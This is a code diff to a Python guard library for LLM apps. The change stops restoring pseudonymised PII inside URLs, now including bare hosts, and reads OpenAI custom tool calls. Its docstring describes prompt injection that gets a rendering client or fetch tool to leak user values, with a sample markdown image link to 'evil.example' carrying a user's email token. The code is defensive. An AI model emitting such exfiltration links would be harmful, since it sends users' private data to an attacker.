@@ -25,10 +25,11 @@ back to the model): it is checked like the arguments, and a secret or a leak in 
 the whole answer as one in the arguments does; PII in it is redacted. A name is never
 restored: it is an identifier from the app's tool list, never one of the user's values.
 
-A token inside a URL (after ``//``, ``\\\\``, ``\\/`` or an ``https:/`` scheme, with no
-whitespace between) is not restored either, even when the output check did not read that
-text as a URL (``![x](//evil.example/p.png?d=<EMAIL_ADDRESS_1>)``): a prompt injection
-would otherwise get the user's own values sent to its host by the client that renders it.
+A token inside a URL (after ``//``, ``\\\\``, ``\\/``, an ``https:/`` scheme, or a bare host
+followed by a path, query, fragment or port such as ``evil.example/c?d=``, with no whitespace
+between) is not restored either, even when the output check did not read that text as a URL
+(``![x](//evil.example/p.png?d=<EMAIL_ADDRESS_1>)``): a prompt injection would otherwise get
+the user's own values sent to its host by the client that renders it, or by a fetch tool.
 
 Only the tokens issued for the end user's side of the conversation are restored: user
 messages and earlier assistant turns (which the user already saw). Tokens issued for tool
@@ -40,9 +41,9 @@ third party's PII printed past the output check, which redacts the same value wr
 must carry the values another tool returned). Tokens the output check itself issued are
 never restored, and a Guard refuses an ``output_policy`` that pseudonymises.
 
-Answers in the OpenAI shape (``choices[0].message``: content, ``tool_calls``, the legacy
-``function_call``), the Anthropic shape (``content`` blocks: ``text`` and ``tool_use``) and
-plain strings are read.
+Answers in the OpenAI shape (``choices[0].message``: content, ``tool_calls`` (function and
+custom tool calls), the legacy ``function_call``), the Anthropic shape (``content`` blocks:
+``text`` and ``tool_use``) and plain strings are read.
 
 >>> from bastion import Guard
 >>> g = Guard.default(tasks=("pii",))
@@ -124,15 +125,28 @@ class CallVault(Vault):
 # http(s) URLs, and "\/" is JSON's escaped slash), or an entity- or percent-encoded slash.
 # A backslash opening an escaped token ("\<PERSON_1\>", "\u003cPERSON_1") is not one.
 _SLASH = r"(?:/|\\(?!<|>|u003[ce])|&#0{0,4}47;?|&#x0{0,4}2f;?|&sol;|%2f)"
-# Where a URL starts: two slashes (also a protocol-relative "//host" or "\\host"), or a web
-# scheme whose colon may be encoded, then one slash ("https:/host" loads as "https://host").
+# A host written bare, with no scheme or slashes ("evil.com/c?d=", "data.evil.io?x="):
+# dotted labels ending in a TLD-like run of letters, or an IPv4 address, then what a URL
+# goes on with (a path, query, fragment or port). A fetch or browse tool, and many a
+# renderer's link detection, read it as a URL; "Dear <PERSON_1>," and "e.g." have no host.
+# It starts at any letter or digit not inside a word (after "-", "." or "_" too, so
+# "-evil.com/" and a stream's tail cut inside a long host still start one).
+_BARE_HOST = (
+    r"(?<![^\W_])(?:(?:[^\W_][\w\-]{0,62}\.){1,8}[^\W\d_]{2,24}|(?:[0-9]{1,3}\.){3}[0-9]{1,3})"
+    r"(?:[/?=&#]|:[0-9])"
+)
+# Where a URL starts: two slashes (also a protocol-relative "//host" or "\\host"), a web
+# scheme whose colon may be encoded, then one slash ("https:/host" loads as "https://host"),
+# or a bare host.
 _URL_START = re.compile(
     rf"{_SLASH}{_SLASH}"
-    rf"|(?<![a-z0-9+.\-])(?:https?|wss?|ftp)(?::|&#0{{0,4}}58;?|&#x0{{0,4}}3a;?|&colon;|%3a){_SLASH}",
+    rf"|(?<![a-z0-9+.\-])(?:https?|wss?|ftp)(?::|&#0{{0,4}}58;?|&#x0{{0,4}}3a;?|&colon;|%3a){_SLASH}"
+    rf"|{_BARE_HOST}",
     re.IGNORECASE,
 )
 _SPACE = re.compile(r"\s")
-# longer than any URL start above: the end of a stream's release kept to find one cut in two
+# longer than any URL start above but a bare host's: the end of a stream's release kept to
+# find one cut in two (a longer host's last labels, kept, are a host too)
 _URL_START_CHARS = 48
 
 
@@ -264,13 +278,15 @@ class ToolCall:
     """A tool call of the answer, checked as output: ``arguments`` (a JSON string when the
     model wrote JSON) with new PII redacted and pseudonyms restored; ``check`` the check.
     ``name`` is checked as output too (``name_check``; ``None`` when the call had no name),
-    with new PII redacted and no pseudonym restored."""
+    with new PII redacted and no pseudonym restored. ``type`` is ``"custom"`` for an OpenAI
+    custom tool call, whose ``arguments`` are its free-text ``input`` (restored as text)."""
 
     id: str | None
     name: str | None
     arguments: str
     check: CheckResult
     name_check: CheckResult | None = None
+    type: str = "function"
 
 
 @dataclass(frozen=True, slots=True)
@@ -311,11 +327,15 @@ def answer_text(response: Any) -> str:
     return _answer(response)[0]
 
 
-def _answer(response: Any) -> tuple[str, list[tuple[str | None, str | None, str]]]:
-    """The answer text and its tool calls ``(id, name, arguments as a string)``."""
+# a tool call of an answer: (id, name, arguments as a string, "function" or "custom")
+_AnswerCall = tuple[str | None, str | None, str, str]
+
+
+def _answer(response: Any) -> tuple[str, list[_AnswerCall]]:
+    """The answer text and its tool calls (:data:`_AnswerCall`)."""
     if isinstance(response, str):
         return response, []
-    calls: list[tuple[str | None, str | None, str]] = []
+    calls: list[_AnswerCall] = []
     choices = _get(response, "choices")
     blocks = _get(response, "content") if choices is None else None
     if choices is None and isinstance(blocks, list):
@@ -327,7 +347,7 @@ def _answer(response: Any) -> tuple[str, list[tuple[str | None, str | None, str]
                 texts.append(_get(block, "text"))
             elif kind == "tool_use":
                 args = _get(block, "input")
-                calls.append((_get(block, "id"), _get(block, "name"), _as_arguments(args)))
+                calls.append((_get(block, "id"), _get(block, "name"), _as_arguments(args), "function"))
         return "\n".join(texts), calls
     try:
         message = _get(choices[0], "message")
@@ -339,10 +359,17 @@ def _answer(response: Any) -> tuple[str, list[tuple[str | None, str | None, str]
     for call in _get(message, "tool_calls") or ():
         fn = _get(call, "function")
         if fn is not None:
-            calls.append((_get(call, "id"), _get(fn, "name"), _as_arguments(_get(fn, "arguments"))))
+            calls.append(
+                (_get(call, "id"), _get(fn, "name"), _as_arguments(_get(fn, "arguments")), "function")
+            )
+        # an OpenAI custom tool call: what the app runs is its free-text input
+        custom = _get(call, "custom")
+        if custom is not None:
+            text = _get(custom, "input")
+            calls.append((_get(call, "id"), _get(custom, "name"), _as_custom_input(text), "custom"))
     fn = _get(message, "function_call")
     if fn is not None:
-        calls.append((None, _get(fn, "name"), _as_arguments(_get(fn, "arguments"))))
+        calls.append((None, _get(fn, "name"), _as_arguments(_get(fn, "arguments")), "function"))
     return (content if isinstance(content, str) else "") or "", calls
 
 
@@ -350,6 +377,13 @@ def _as_arguments(args: Any) -> str:
     if isinstance(args, str):
         return args
     return json.dumps(args if args is not None else {}, ensure_ascii=False, default=str)
+
+
+def _as_custom_input(text: Any) -> str:
+    if isinstance(text, str) or text is None:
+        return text or ""
+    # an object where the API sends text: read (and run) as its JSON, never skipped
+    return json.dumps(text, ensure_ascii=False, default=str)
 
 
 def _pseudonymise(
@@ -466,7 +500,7 @@ class _Call:
             return ProtectedResponse(Action.BLOCK, None, checked, out, response)
         action = max((checked.action, out.action), key=lambda a: a.severity)
         tool_calls = []
-        for call_id, name, arguments in calls:
+        for call_id, name, arguments, kind in calls:
             # what the app will run: a secret there blocks like one in the text, and the
             # arguments hold the model's placeholders, restored here
             r = output(arguments)
@@ -481,7 +515,9 @@ class _Call:
                     return ProtectedResponse(Action.BLOCK, None, checked, rn, response)
                 action = max((action, rn.action), key=lambda a: a.severity)
                 name = rn.redacted_text
-            tool_calls.append(ToolCall(call_id, name, restore_output(r, vault, arguments=True), r, rn))
+            # a custom input is free text: restored as text, not re-serialised as JSON
+            restored = restore_output(r, vault, arguments=kind == "function")
+            tool_calls.append(ToolCall(call_id, name, restored, r, rn, kind))
         return ProtectedResponse(
             action, restore_output(out, vault), checked, out, response, tuple(tool_calls)
         )
